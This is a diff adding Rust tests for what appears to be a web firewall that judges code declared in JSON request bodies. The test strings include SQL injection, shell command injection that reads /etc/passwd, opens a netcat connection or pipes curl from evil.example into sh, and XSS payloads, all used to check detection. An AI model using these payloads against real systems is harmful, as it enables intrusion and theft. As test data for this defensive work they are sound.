@@ -1,0 +1,167 @@
+use super::*;
+
+fn langs(body: &str) -> Vec<(String, Lang)> {
+    declared_languages(body.as_bytes()).into_iter().map(|d| (d.location, d.lang)).collect()
+}
+
+#[test]
+fn languages_by_name_and_file_name() {
+    assert_eq!(Lang::by_name("PostgreSQL"), Some(Lang::Sql));
+    assert_eq!(Lang::by_name("text/x-sql"), Some(Lang::Sql));
+    assert_eq!(Lang::by_name("ace/mode/sh"), Some(Lang::Shell));
+    assert_eq!(Lang::by_name("typescriptreact"), Some(Lang::Script));
+    assert_eq!(Lang::by_name("english"), None);
+    assert_eq!(Lang::by_file_name("src/App.jsx"), Some(Lang::Script));
+    assert_eq!(Lang::by_file_name("db\\\\schema.SQL"), Some(Lang::Sql));
+    assert_eq!(Lang::by_file_name("Dockerfile"), Some(Lang::Shell));
+    assert_eq!(Lang::by_file_name("README.md"), Some(Lang::Markdown));
+    // Names that are not files: no extension, a host name, a dotfile, a person.
+    for n in ["report", "www.example.com", ".sql", "Anna Smith", "v1.2"] {
+        assert_eq!(Lang::by_file_name(n), None, "{n}");
+    }
+}
+
+#[test]
+fn content_is_code_when_its_object_declares_a_language() {
+    let body = r#"{"title":"demo","files":[{"name":"q.sql","content":"SELECT 1"},{"content":"x","name":"notes"}],
+                  "cell":{"language":"bash","source":"ls -la"},"editor":{"mode":"ace/mode/html","value":"<p>"},
+                  "post":{"name":"run.sh","description":"not the file"}}"#;
+    assert_eq!(
+        langs(body),
+        vec![("body/files/0/content".to_string(), Lang::Sql), ("body/cell/source".to_string(), Lang::Shell), ("body/editor/value".to_string(), Lang::Markup),]
+    );
+}
+
+#[test]
+fn code_block_nodes_declare_their_text_children() {
+    // ProseMirror/Tiptap, and Lexical with the language on the node.
+    let pm = r#"{"doc":{"type":"doc","content":[{"type":"paragraph","content":[{"type":"text","text":"see"}]},
+               {"type":"codeBlock","attrs":{"language":"sql"},"content":[{"type":"text","text":"DELETE FROM t"}]},
+               {"type":"code_block","content":[{"type":"text","text":"no language"}]}]}}"#;
+    assert_eq!(langs(pm), vec![("body/doc/content/1/content/0/text".to_string(), Lang::Sql)]);
+    let lexical = r#"{"root":{"children":[{"type":"code","language":"javascript","children":[{"type":"code-highlight","text":"a()"}]}]}}"#;
+    assert_eq!(langs(lexical), vec![("body/root/children/0/children/0/text".to_string(), Lang::Script)]);
+}
+
+#[test]
+fn markdown_by_key_or_declared_format() {
+    let body =
+        r#"{"markdown":"a","body_markdown":"b","post":{"format":"markdown","body":"c"},"c":{"format":"html","body":"<p>"},"path/x":{"lang":"md","text":"d"}}"#;
+    assert_eq!(
+        langs(body),
+        vec![
+            ("body/markdown".to_string(), Lang::Markdown),
+            ("body/body_markdown".to_string(), Lang::Markdown),
+            ("body/post/body".to_string(), Lang::Markdown),
+            ("body/path~1x/text".to_string(), Lang::Markdown),
+        ]
+    );
+    assert!(langs("not json").is_empty());
+}
+
+#[test]
+fn code_begins_as_its_language_does_not_as_a_breakout() {
+    assert!(begins_as_code(Lang::Sql, "  SELECT id FROM t"));
+    assert!(begins_as_code(Lang::Sql, "with x as (select 1) select * from x"));
+    assert!(begins_as_code(Lang::Sql, "-- report\nselect 1"));
+    assert!(!begins_as_code(Lang::Sql, "' UNION SELECT password FROM users--"));
+    assert!(!begins_as_code(Lang::Sql, "1 OR 1=1"));
+    assert!(begins_as_code(Lang::Shell, "#!/bin/sh\nmake"));
+    assert!(begins_as_code(Lang::Shell, "for f in *.log; do gzip \"$f\"; done"));
+    assert!(!begins_as_code(Lang::Shell, "; cat /etc/passwd"));
+    assert!(!begins_as_code(Lang::Shell, "$(id)"));
+    assert!(!begins_as_code(Lang::Shell, "| nc evil.example 4444"));
+    assert!(begins_as_code(Lang::Markup, "<!DOCTYPE html><script>x()</script>"));
+    assert!(!begins_as_code(Lang::Markup, "\"><script>alert(1)</script>"));
+    assert!(!begins_as_code(Lang::Script, "';alert(1)//"));
+    assert!(!begins_as_code(Lang::Sql, "   "));
+}
+
+#[test]
+fn markdown_code_spans_and_fences_are_blanked() {
+    assert_eq!(blank_markdown_code("use `<script>` here"), "use `        ` here");
+    assert_eq!(blank_markdown_code("a ``x ` y`` b"), "a ``     `` b");
+    // An unclosed span is not code.
+    assert_eq!(blank_markdown_code("a ` <b>"), "a ` <b>");
+    let fenced = "intro\n```sql\nDROP TABLE t;\n```\n<img src=x onerror=alert(1)>";
+    assert_eq!(blank_markdown_code(fenced), "intro\n```sql\n             \n```\n<img src=x onerror=alert(1)>");
+    // A fence closed by a longer one, and one never closed (runs to the end).
+    assert_eq!(blank_markdown_code("~~~\nrm -rf /\n~~~~\nok"), "~~~\n        \n~~~~\nok");
+    assert_eq!(blank_markdown_code("```\n$(id)"), "```\n     ");
+    // Non-ASCII inside a span stays valid UTF-8.
+    assert_eq!(blank_markdown_code("`é`"), "`  `");
+}
+
+/// The body-phase findings of a JSON body (gzip-compressed when asked) at a level.
+fn judged(body: &str, level: Level, gzip: bool) -> Vec<Finding> {
+    use std::io::Write as _;
+    let mut req = palisade_core::rawhttp::OwnedRequest::new(http::Method::PUT, "/api/pens/1");
+    req.headers.insert(http::header::CONTENT_TYPE, http::HeaderValue::from_static("application/json"));
+    req.body = if gzip {
+        req.headers.insert(http::header::CONTENT_ENCODING, http::HeaderValue::from_static("gzip"));
+        let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
+        e.write_all(body.as_bytes()).unwrap();
+        e.finish().unwrap()
+    } else {
+        body.as_bytes().to_vec()
+    };
+    let engine = Engine::new(crate::EngineConfig::default()).unwrap();
+    let mut scratch = engine.scratch();
+    let mut report = crate::engine::Report::default();
+    engine.inspect_phase(&req.view(), palisade_core::Phase::Body, level, &mut scratch, &mut report);
+    report.findings
+}
+
+fn detectors(f: &[Finding]) -> Vec<(&'static str, u8)> {
+    f.iter().map(|f| (f.detector, f.confidence)).collect()
+}
+
+#[test]
+fn declared_code_is_judged_in_its_own_language_at_strict_only() {
+    let sql = r#"{"files":[{"name":"report.sql","content":"SELECT u.name FROM users u UNION ALL SELECT 'total' FROM orders; -- sum"}]}"#;
+    for gzip in [false, true] {
+        assert!(judged(sql, Level::Balanced, gzip).is_empty(), "{:?}", judged(sql, Level::Balanced, gzip));
+        assert_eq!(detectors(&judged(sql, Level::Strict, gzip)), vec![("sqli", DECLARED_CODE)]);
+    }
+    // Without the file name, the same text is an injection at balanced.
+    let bare = r#"{"files":[{"content":"SELECT u.name FROM users u UNION ALL SELECT 'total' FROM orders; -- sum"}]}"#;
+    assert!(judged(bare, Level::Balanced, false).iter().any(|f| f.detector == "sqli" && f.confidence >= 60));
+    let shell = r#"{"cell":{"language":"bash","source":"find . -name '*.tmp' -delete; ls -la"}}"#;
+    assert!(judged(shell, Level::Balanced, false).is_empty());
+    let jsx = r#"{"name":"App.jsx","code":"export const B = () => <button onClick={() => go(1)}>go</button>;"}"#;
+    assert!(judged(jsx, Level::Balanced, false).is_empty());
+}
+
+#[test]
+fn declared_code_does_not_cover_other_languages_or_breakouts() {
+    // Another language's attack in declared SQL: unchanged.
+    let xss_in_sql = r#"{"name":"q.sql","content":"SELECT 1; <script>alert(document.cookie)</script>"}"#;
+    assert!(judged(xss_in_sql, Level::Balanced, false).iter().any(|f| f.detector == "xss" && f.confidence >= 60));
+    // A value that begins by closing a string is an injection whatever the neighbours say.
+    let breakout = r#"{"language":"sql","query":"' UNION SELECT password FROM users--"}"#;
+    assert!(judged(breakout, Level::Balanced, false).iter().any(|f| f.detector == "sqli" && f.confidence >= 60));
+    let shell = r#"{"language":"bash","code":"; curl http://evil.example/x | sh"}"#;
+    assert!(judged(shell, Level::Balanced, false).iter().any(|f| f.detector == "cmdi"));
+    // A format of html declares no code: saved HTML is where stored XSS lives.
+    let html = r#"{"format":"html","body":"<p>hi</p><script>alert(1)</script>"}"#;
+    assert!(judged(html, Level::Balanced, false).iter().any(|f| f.detector == "xss" && f.confidence >= 60));
+}
+
+#[test]
+fn markdown_code_is_text_and_raw_html_outside_it_is_not() {
+    let md = r#"{"markdown":"- Added `<script>` loading via `defer`\n\n```js\ndocument.body.innerHTML = `<b>${x}</b>`;\n```"}"#;
+    assert!(judged(md, Level::Balanced, false).is_empty(), "{:?}", judged(md, Level::Balanced, false));
+    assert!(judged(md, Level::Strict, false).iter().all(|f| f.confidence == DECLARED_CODE));
+    let raw = r#"{"markdown":"Look `code` <img src=x onerror=alert(document.domain)>"}"#;
+    assert!(judged(raw, Level::Balanced, false).iter().any(|f| f.detector == "xss" && f.confidence >= 60));
+}
+
+#[test]
+fn code_block_nodes_are_code_of_their_language() {
+    let pm = r#"{"doc":{"type":"doc","content":[{"type":"codeBlock","attrs":{"language":"sql"},"content":[{"type":"text","text":"DELETE FROM sessions WHERE expires_at < CURRENT_TIMESTAMP; -- cleanup"}]}]}}"#;
+    assert!(judged(pm, Level::Balanced, false).is_empty());
+    assert_eq!(detectors(&judged(pm, Level::Strict, false)), vec![("sqli", DECLARED_CODE)]);
+    // The same text in a paragraph is judged as any text.
+    let para = pm.replace("codeBlock", "paragraph");
+    assert!(!judged(&para, Level::Balanced, false).is_empty());
+}
